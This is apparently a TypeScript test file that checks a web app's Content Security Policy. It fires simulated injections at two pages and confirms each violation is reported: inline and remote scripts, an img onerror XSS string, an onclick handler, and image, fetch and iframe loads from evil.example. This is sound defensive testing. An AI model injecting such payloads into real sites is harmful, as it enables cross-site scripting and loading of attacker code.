import { describe, expect } from 'vitest';
import { eventually, sharedToken, test } from '../kit/story.ts';

/** What an attacker might do, and the policy directive that stops it. */
const attacks: readonly [what: string, stopped: string, attack: () => void][] = [
  [
    'a script in the page',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.append('document.title = "tomado"');
      document.body.append(script);
    },
  ],
  [
    'a script of another site',
    'require-trusted-types-for',
    () => {
      document.body.append(
        Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
      );
    },
  ],
  [
    'markup put together from text',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML += '<img src="x" onerror="document.title = `tomado`">';
    },
  ],
  [
    'a handler in markup',
    '(require-trusted-types-for|script-src-attr)',
    () => document.body.setAttribute('onclick', 'document.title = "tomado"'),
  ],
  ['a style in an element', 'style-src-attr', () => document.body.setAttribute('style', 'background: red')],
  [
    'a picture of another site',
    'img-src',
    () => {
      document.body.append(
        Object.assign(document.createElement('img'), { src: 'https://evil.example/x.png' }),
      );
    },
  ],
  ['a call to another site', 'connect-src', () => void fetch('https://evil.example/').catch(() => undefined)],
  [
    'another site in a frame',
    'frame-src',
    () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
    },
  ],
];

describe.concurrent('the stories hear every breach of the policy, so that their silence means something', () => {
  test.for(['/', '/datos-personales'])('on %s', async (path, { open }) => {
    const visit = await open(path, { token: await sharedToken() });
    visit.allow(/policy violated|Content Security Policy|Trusted|evil\.example/);
    expect(visit.heard).toEqual([]);
    for (const [what, stopped, attack] of attacks) {
      const before = visit.heard.length;
      await visit.page.evaluate(attack).catch(() => undefined);
      const isHeard = (): boolean =>
        visit.heard.slice(before).some((line) => new RegExp(`policy violated: ${stopped}`).test(line));
      await eventually(isHeard, true).catch((cause: unknown) => {
        throw new Error(`${what}: ${visit.heard.slice(before).join('\n')}`, { cause });
      });
    }
    expect(await visit.page.title()).not.toBe('tomado');
  });
});
